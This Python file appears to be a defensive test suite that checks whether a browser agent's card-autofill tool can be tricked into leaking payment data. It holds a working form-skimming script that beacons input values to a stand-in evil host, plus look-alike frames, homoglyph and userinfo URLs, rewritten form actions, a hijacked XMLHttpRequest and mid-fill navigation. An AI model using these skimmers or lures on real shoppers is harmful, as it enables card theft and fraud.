"""Pages that are not what they seem."""

import threading
import time

from attacks import VALUES, attack
from support.cdp import CdpError

FORM = ("<form onsubmit='return false'><label>Card number <input id=number autocomplete=cc-number></label><label>Expiry <input id=expiry autocomplete=cc-exp placeholder='MM/YY'></label>"
        "<label>CVC <input id=code autocomplete=cc-csc></label><button id=pay type=button>Pay</button></form>")


def spying(a):
    return ("<script>window.ready = true; setInterval(() => { const v = [...document.querySelectorAll('input')].map(i => i.value).join('|'); if (v.length > 14) "
            "navigator.sendBeacon('%s/take', v); }, 30);</script>" % a.evil)


@attack("xhr_form")
def hostile_merchant_page(a):
    """The shop's own page tells all it gets to another server."""
    a.sites.pages["shop", "/hostile"] = "<!doctype html><title>x</title>" + FORM + spying(a)
    a.open(url=a.sites.origin("shop") + "/hostile")
    a.fill()
    a.look("new Promise(r => setTimeout(r, 150))")
    a.pay()


@attack("xhr_form", control=False)
def look_alike_frame(a):
    """The shop's page has a frame of another origin that looks like the processor's."""
    a.sites.pages["evil", "/frame"] = "<!doctype html><title>x</title>" + FORM + spying(a)
    a.sites.pages["shop", "/fake"] = "<!doctype html><title>x</title><iframe width=400 height=200 src='%s/frame'></iframe><button id=pay>Pay</button><script>window.ready = true</script>" % a.evil
    a.open(url=a.sites.origin("shop") + "/fake")
    a.fill()
    a.look_everywhere()


@attack("payment_element", control=False)
def processor_inside_a_hostile_frame(a):
    """The processor's frame stands inside a frame of another origin."""
    inner = a.sites.origin("element") + "/frame?fields=number,expiry,cvc&post=1&account=pk_test_attacker&shop=" + a.evil
    a.sites.pages["evil", "/around"] = "<!doctype html><title>x</title><iframe width=400 height=200 src='%s'></iframe>" % inner
    a.sites.pages["shop", "/wrapped"] = "<!doctype html><title>x</title><iframe width=420 height=240 src='%s/around'></iframe><button id=pay>Pay</button><script>window.ready = true</script>" % a.evil
    a.open(url=a.sites.origin("shop") + "/wrapped")
    a.fill()
    a.look("new Promise(r => setTimeout(r, 100))")


def elsewhere(name, doc, url):
    def run(a):
        a.sites.pages["evil", "/xhr_form"] = "<!doctype html><title>x</title>" + FORM + spying(a)
        session = a.browser.open("about:blank#")if False else None
        target = a.browser.call("Target.createTarget", {"url": "about:blank"})["targetId"]
        session = a.browser.attach(target)
        from support.checkout import Page
        a.page = Page(session, a.site, a.began)
        a.pages.append(a.page)
        a.ask(session, "Page.navigate", url=url(a))
        a.look("new Promise(r => setTimeout(r, 300))")
        a.fill()
        a.look_everywhere()
    run.__name__, run.__doc__ = name, doc
    attack("xhr_form", control=False)(run)


elsewhere("trailing_dot", "The shop's name with a trailing dot.", lambda a: a.site.url.replace("shop.localhost", "shop.localhost."))
elsewhere("userinfo", "The shop's name as user name of another host.", lambda a: a.site.url.replace("shop.localhost", "shop.localhost@evil.localhost"))
elsewhere("userinfo_with_port", "The shop's origin as user name and password.", lambda a: "http://shop.localhost:%d@evil.localhost:%d/xhr_form" % (a.sites.port, a.sites.port))
elsewhere("homoglyph", "A host that looks like the shop's.", lambda a: a.site.url.replace("shop.localhost", "sh\u043ep.localhost"))
elsewhere("upper_case_and_numbers", "Another spelling of loopback.", lambda a: a.site.url.replace("shop.localhost", "127.1"))
elsewhere("longer_host", "The shop's name in front of another.", lambda a: a.site.url.replace("shop.localhost", "shop.localhost.evil.localhost"))
elsewhere("open_redirect", "An address of the shop that leads elsewhere.", lambda a: redirecting(a))
elsewhere("data_page", "A data: page with a form.", lambda a: "data:text/html," + FORM.replace("#", ""))
elsewhere("blob_of_the_shop", "A page at about:srcdoc and blob: addresses.", lambda a: "blob:" + a.site.url)


def redirecting(a):
    a.sites.pages["shop", "/go"] = (302, "text/plain", b"", {"Location": a.evil + "/xhr_form"})
    return a.sites.origin("shop") + "/go"


@attack("plain_post")
def base_element(a):
    """A <base> that sends the form's relative address elsewhere."""
    a.open()
    a.look("(() => { const b = document.createElement('base'); b.href = '%s/'; document.head.prepend(b); })()" % a.evil)
    a.fill()
    a.pay()
    a.look("new Promise(r => setTimeout(r, 150))")


@attack("plain_post")
def action_replaced(a):
    """The form's action is changed after the fill."""
    a.open()
    a.fill()
    a.look("document.forms[0].action = '%s/take'" % a.evil)
    a.pay()
    a.look("new Promise(r => setTimeout(r, 150))")


@attack("xhr_form")
def processor_replaced_in_script(a):
    """The page's variable with the processor's address is changed; the request goes to another origin."""
    a.open(plant="XMLHttpRequest.prototype.open = (old => function (m, u) { return old.call(this, m, String(u).replace('direct.localhost', 'evil.localhost')); })(XMLHttpRequest.prototype.open);")
    a.fill()
    a.pay()


@attack("payment_element", control=False)
def processor_frame_redirected(a):
    """The processor's frame address leads, by redirect, to another origin with the same form."""
    a.sites.pages["evil", "/frame"] = "<!doctype html><title>x</title>" + FORM + spying(a)
    a.open()
    a.sites.pages["element", "/moved"] = (302, "text/plain", b"", {"Location": a.evil + "/frame"})
    a.look("(() => { document.querySelector('iframe').src = '%s/moved'; })()" % a.sites.origin("element"))
    a.look("new Promise(r => setTimeout(r, 250))")
    a.fill()
    a.look_everywhere()


@attack("payment_element", "xhr_form", control=False)
def navigated_while_filling(a):
    """The frame, or the page, is taken to another origin again and again while the fill runs."""
    a.sites.pages["evil", "/frame"] = "<!doctype html><title>x</title>" + FORM + spying(a)
    a.open(plant="addEventListener('load', () => setTimeout(() => { const f = document.querySelector('iframe'); const at = f && f.src; let n = 0;"
                 "setInterval(() => { if (f) f.src = n++ %% 2 ? at : '%s/frame'; else if (document.getElementById('number').value) location.href = '%s/frame'; }, 60); }, 50));" % (a.evil, a.evil))
    a.fill()
    a.look("new Promise(r => setTimeout(r, 200))")


@attack("xhr_form", control=False)
def another_target_is_named(a):
    """purchase.fill for the agent's own page, a frame's id, a wrong id and an address with the same beginning."""
    a.sites.pages["evil", "/xhr_form"] = "<!doctype html><title>x</title>" + FORM + spying(a)
    good = a.open()
    evil = a.open(url=a.evil + "/xhr_form", ready=False)
    a.page.session.wait_for("window.ready")
    a.look("new Promise(r => setTimeout(r, 200))", evil.session)
    a.fill(evil)
    a.look(session=evil.session)


@attack("xhr_form", control=False)
def swapped_document(a):
    """While the fill is asked for, Page.setDocumentContent and history take the page's place."""
    a.open()
    stop = threading.Event()
    other = a.client()
    session = other.attach(a.page.target_id)

    def swap():
        while not stop.is_set():
            try:
                other.call("Page.setDocumentContent", {"frameId": a.page.target_id, "html": FORM + spying(a)}, session.session_id)
                other.call("Page.navigate", {"url": a.evil + "/xhr_form"}, session.session_id)
                other.call("Page.navigate", {"url": a.site.url}, session.session_id)
            except (CdpError, OSError):
                pass
            time.sleep(0.05)
    thread = threading.Thread(target=swap)
    thread.start()
    try:
        a.fill()
    finally:
        stop.set()
        thread.join()


@attack("hosted_checkout")
def hosted_page_read(a):
    """The processor's own top-level page: evaluate, tree, requests, and a script planted before."""
    a.open(plant="setInterval(() => out(%s), 40);" % VALUES, ready=False)
    a.look("new Promise(r => setTimeout(r, 300))")
    a.ask(a.page.session, "Network.enable")
    a.fill()
    a.look()
    a.ask(a.page.session, "Accessibility.getFullAXTree")
    a.ask(a.page.session, "DOMSnapshot.captureSnapshot", computedStyles=[])
    a.ask(a.page.session, "Page.captureSnapshot")
    if a.strength == "dom":
        a.pay()


@attack("hosted_checkout", control=False)
def hosted_page_opened_by_script(a):
    """A page of the agent's opens the processor's page and keeps the window, its name and its opener."""
    own = a.browser.open(a.sites.origin("shop") + "/thanks")
    a.undo.append(own.close)
    a.ask(own, "Runtime.evaluate", expression="window.w = window.open('%s', 'x'); 1" % a.site.url, userGesture=True)
    a.look("new Promise(r => setTimeout(r, 300))", own)
    found = [i for i in a.browser.targets() if i["type"] == "page" and "hosted" in i["url"]]
    if not found:
        return
    from support.checkout import Page
    a.page = Page(a.browser.attach(found[0]["targetId"]), a.site, a.began)
    a.pages.append(a.page)
    a.fill()
    a.look("(() => { try { return w.document.body.innerHTML; } catch (e) { return String(e); } })()", own)
    a.look("(() => { try { w.location = 'javascript:opener.postMessage(document.forms[0].innerHTML)'; } catch (e) { return String(e); } })()", own)
    a.look()
